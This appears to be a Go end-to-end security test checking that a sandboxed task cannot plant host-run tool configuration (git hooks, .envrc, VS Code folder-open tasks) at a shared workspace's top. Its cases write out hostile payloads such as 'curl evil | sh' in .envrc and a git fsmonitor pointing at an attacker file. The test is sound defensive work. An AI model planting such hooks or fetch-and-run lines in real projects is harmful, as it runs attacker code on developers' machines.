//go:build e2e

package security

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// topToolNames are the names at the folder's top whose contents the
// user's tools run on the host (api.HostRunPaths).
var topToolNames = []string{".git", ".envrc", ".vscode", ".idea"}

// TestShareToolConfigMadeMidTask: in direct mode a task cannot make the
// tool configuration where there was none, in the task that makes it (a
// `git init` and a hook, a prepared repository moved or linked into
// place, a new .vscode). It runs before TestShareToolConfig (parallel)
// plants its repository in the same folder.
func TestShareToolConfigMadeMidTask(t *testing.T) {
	probe(t)
	clean := func() {
		for _, n := range topToolNames {
			os.RemoveAll(filepath.Join(sharedWS, n))
		}
		old, _ := filepath.Glob(filepath.Join(sharedWS, "tc-*"))
		for _, o := range old {
			os.RemoveAll(o)
		}
	}
	clean()
	defer clean()
	// A control: a repository below the top is ordinary work.
	if r := user(t, "cd /workspace && mkdir -p tc-sub/.git/hooks && echo x > tc-sub/.git/config && mkdir tc-sub/.vscode && echo ok"); r.Stdout != "ok\n" {
		t.Fatalf("control: a repository below the folder's top: %s", r)
	}
	const repo = "mkdir -p tc-r/hooks tc-r/objects tc-r/refs && echo 'ref: refs/heads/main' > tc-r/HEAD && " +
		`printf '[core]\n\tfsmonitor = /workspace/evil\n' > tc-r/config && printf '#!/bin/sh\necho evil\n' > tc-r/hooks/post-checkout && `
	cases := []struct{ name, cmd, made string }{
		{"a new repository at the top with a hook (git init)", `cd /workspace && mkdir -p .git/hooks; printf '#!/bin/sh\necho evil\n' > .git/hooks/post-checkout; ls -la`, ""},
		{"a prepared repository moved to the top", "cd /workspace && " + repo + "mv tc-r .git; ls -la", "tc-r/config"},
		{"a prepared repository copied to the top", "cd /workspace && " + repo + "cp -r tc-r .git; ls -la", "tc-r/config"},
		{"a prepared repository linked to the top", "cd /workspace && " + repo + "ln -s tc-r .git; ls -la", "tc-r/config"},
		{"an .envrc moved or linked into place", "cd /workspace && echo 'curl evil | sh' > tc-e && mv tc-e .envrc; ln tc-e .envrc; ln -s tc-e .envrc; ls -la", "tc-e"},
		{"a new .vscode with a task", `cd /workspace && mkdir -p .vscode && echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json; mkdir .idea; ls -la`, ""},
		{"a .git file naming a prepared repository", "cd /workspace && " + repo + "echo 'gitdir: tc-r' > .git; ls -la", "tc-r/config"},
		{"an .envrc written in place", "cd /workspace && echo 'curl evil | sh' > .envrc; ls -la", ""},
	}
	for _, who := range []struct {
		tag string
		run func(testing.TB, string) result
	}{{"the task user", user}, {"guest root", root}} {
		for _, c := range cases {
			attack(t, wsFamily, who.tag+" makes what the host's tools run where there was none: "+c.name, func(a *Attack) {
				clean()
				r := who.run(a, c.cmd)
				if c.made != "" {
					if _, err := os.Lstat(filepath.Join(sharedWS, c.made)); err != nil {
						a.Fatalf("the attack's %s was not made: %s", c.made, r)
					}
				}
				var made []string
				for _, n := range topToolNames {
					if _, err := os.Lstat(filepath.Join(sharedWS, n)); err == nil {
						made = append(made, n)
					}
				}
				if len(made) > 0 {
					a.breach("the task made %s at the folder's top, which the host's tools read and run: %s", strings.Join(made, ", "), r)
				}
			})
		}
	}
}
